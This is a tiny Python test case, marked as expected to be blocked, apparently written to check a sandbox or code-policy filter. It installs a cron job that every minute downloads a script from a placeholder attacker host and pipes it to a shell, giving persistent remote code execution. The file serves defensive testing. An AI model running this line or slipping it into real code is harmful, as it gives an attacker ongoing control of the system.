# expect: BLOCKED
import subprocess
p = subprocess.Popen(["crontab", "-"], stdin=subprocess.PIPE)
p.communicate(b"* * * * * curl http://evil.test/x | sh\n")
